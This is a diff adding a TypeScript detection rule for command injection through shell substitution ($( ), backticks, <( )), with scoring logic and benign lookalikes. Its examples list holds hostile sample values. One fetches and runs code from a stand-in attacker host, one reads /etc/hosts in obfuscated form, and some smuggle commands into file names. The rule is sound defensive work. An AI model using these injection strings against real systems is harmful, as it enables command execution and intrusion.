@@ -1,0 +1,103 @@
+import { introducer, shell } from '../../tokenise/shell.ts';
+import type { Match, ValueRule } from '../rule.ts';
+import type { Subject } from '../subject.ts';
+import { type Command, fit, readCommand } from './command.ts';
+import { endsValue, followsValue, namesSecret } from './place.ts';
+import { use } from './vocabulary.ts';
+
+/** `$(id)`, `` `id` ``, `<(curl …)`. */
+export const substitution: ValueRule = {
+  id: 'cmdi.substitution',
+  category: 'cmdi',
+  cwe: 'CWE-78',
+  severity: 'critical',
+  score: 90,
+  message: 'makes a shell run a command and put its output in place',
+  trigger: { literals: [['$(', '`', '<(', '>(']] },
+  judge,
+  examples: [
+    '$(nslookup evil.example.com)',
+    '`id`',
+    'photo$(sleep 7).jpg',
+    'x`ping -c 3 127.0.0.1`',
+    'who$(echo am)i',
+    '$(c""at /etc/hosts)',
+    'bash <(curl -s http://evil.example.com/x)',
+  ],
+  lookalikes: [
+    'Run `ls -la` in the folder, then `cat README.md` shows the text',
+    '$(document).ready(function () { $("#id").hide(); })',
+    'the price is $(12) less',
+    '`npm install` does not work for me, what now?',
+    'mount it with -v $(pwd)/data:/data and start the image again please',
+    '`less` or `more`?',
+  ],
+};
+
+function judge(subject: Subject): Match | undefined {
+  const text = subject.text;
+  const reading = subject.tokens(shell);
+  if (!reading.complete) subject.incomplete('tokens');
+  let best: Match | undefined;
+  for (const head of reading.heads) {
+    if (head.introducer < introducer.substitution) continue;
+    const command = readCommand(text, head);
+    if (command === undefined) continue;
+    const score =
+      head.introducer === introducer.backtick
+        ? backtickScore(text, command)
+        : closedScore(text, command);
+    if (score > (best?.score ?? 0)) {
+      best = { start: head.start, end: closing(text, command), score };
+    }
+    if (score >= 90) break;
+  }
+  return best;
+}
+
+const closers = ')|;&';
+
+function closedScore(text: string, command: Command): number {
+  const { head } = command;
+  const isClosed = closers.includes(text.charAt(command.end));
+  if (command.hidden) return 94;
+  switch (command.fit) {
+    case fit.full:
+      return followsValue(text, head.start) || namesSecret(text, head.start, command.end) ? 92 : 62;
+    case fit.weak:
+      return (command.uses & use.english) === 0 && isClosed ? 86 : 50;
+    case fit.sureAlone:
+      return isClosed || followsValue(text, head.start) ? 88 : 60;
+    case fit.alone:
+      return isClosed && followsValue(text, head.start) && endsValue(text, command.end + 1)
+        ? 82
+        : 45;
+    case fit.aloneWord:
+      return isClosed && followsValue(text, head.start) && endsValue(text, command.end + 1)
+        ? 72
+        : 35;
+    default:
+      return 0;
+  }
+}
+
+/** Markdown marks code with backticks: only a value that is nothing else is an attack. */
+function backtickScore(text: string, command: Command): number {
+  if (command.fit < fit.aloneWord) return 0;
+  const close = text.indexOf('`', command.end);
+  const end = close < 0 ? text.length : close + 1;
+  const stands = followsValue(text, command.head.start) && endsValue(text, end);
+  if (!stands) return command.hidden && command.fit === fit.full ? 60 : 35;
+  if (command.fit === fit.aloneWord) {
+    return quotes.includes(text.charAt(command.head.start - 1) || ' ') ? 72 : 35;
+  }
+  return command.fit === fit.alone ? 80 : 90;
+}
+
+const quotes = '"\'';
+
+function closing(text: string, command: Command): number {
+  const close = command.head.introducer === introducer.backtick ? '`' : ')';
+  const at = text.slice(command.end, command.end + 64).indexOf(close);
+  return at < 0 ? command.end : command.end + at + 1;
+}
